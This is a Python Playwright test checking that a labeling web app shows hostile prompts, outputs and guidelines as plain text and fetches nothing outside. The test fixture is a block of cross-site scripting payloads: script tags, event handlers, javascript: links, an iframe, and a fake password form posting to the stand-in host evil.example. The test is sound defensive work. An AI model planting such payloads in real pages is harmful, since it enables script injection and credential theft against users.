"""Texts written to harm whoever reads them."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from tests.browser.server import COMPARISON, Api, Server

ABROAD = "evil.example"
HOSTILE = f"""\
Before.

<script>window.harmed = 1; alert(1)</script>

<img src="x" onerror="window.harmed = 2; alert(2)">

<iframe src="https://{ABROAD}/frame"></iframe><svg onload="window.harmed = 3"></svg>

<style>@import url("https://{ABROAD}/style.css"); body {{ display: none }}</style>

[press me](javascript:window.harmed=4) and [me](data:text/html,<script>alert(5)</script>)

![a picture](https://{ABROAD}/picture.png) ![relative](/logout)

$\\href{{javascript:alert(6)}}{{formula}}$ $\\includegraphics{{https://{ABROAD}/tex.png}}$

<form action="https://{ABROAD}/"><input name="password"><button>Send</button></form>

After.
"""


def watched(context: BrowserContext) -> tuple[Page, set[str], list[str]]:
    """A page, the hosts that it asks, and the dialogs that it opens."""
    page = context.new_page()
    hosts: set[str] = set()
    dialogs: list[str] = []

    def note_request(request: Request) -> None:
        address = urlsplit(request.url)
        if address.scheme not in {"data", "blob"}:
            hosts.add(address.netloc)

    def note_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    context.on("request", note_request)
    page.on("dialog", note_dialog)
    return page, hosts, dialogs


def check_harmless(page: Page) -> None:
    """Nothing of the hostile text became anything but text."""
    assert page.evaluate("window.harmed") is None
    assert page.locator("main iframe, main form, main svg[onload], main img[src*=evil]").count() == 0
    targets = page.locator("main a[href]").evaluate_all("links => links.map(link => link.protocol)")
    assert set(targets) <= {"http:", "https:", "mailto:"}


def test_hostile_prompts_and_outputs_are_shown_as_text_and_fetch_nothing(
    context: BrowserContext, api: Api, server: Server
) -> None:
    line = {
        "id": "p",
        "prompt": HOSTILE,
        "completions": [{"id": "x", "text": HOSTILE}, {"id": "y", "text": f"{HOSTILE} and more"}],
    }
    project = api.new_project("Hostile texts", questions=[COMPARISON], lines=[line])
    api.call("PATCH", f"/projects/{project}/", json={"guidelines": HOSTILE})
    page, hosts, dialogs = watched(context)
    page.goto(f"/projects/{project}/label")
    for part in (page.get_by_role("article", name="Output A"), page.get_by_label("Prompt")):
        expect(part).to_contain_text("Before.")
        expect(part).to_contain_text("After.")
        expect(part).to_contain_text("window.harmed = 1; alert(1)")
        expect(part).to_contain_text("press me")
        expect(part).to_contain_text(ABROAD)
    check_harmless(page)
    page.keyboard.press("m")
    expect(page.get_by_role("article", name="Output A")).to_contain_text("![a picture]")
    check_harmless(page)
    page.goto(f"/projects/{project}/data")
    page.get_by_text("Before.").first.click()
    expect(page.get_by_text("After.").first).to_be_visible()
    check_harmless(page)
    assert hosts == {urlsplit(server.url).netloc}
    assert dialogs == []
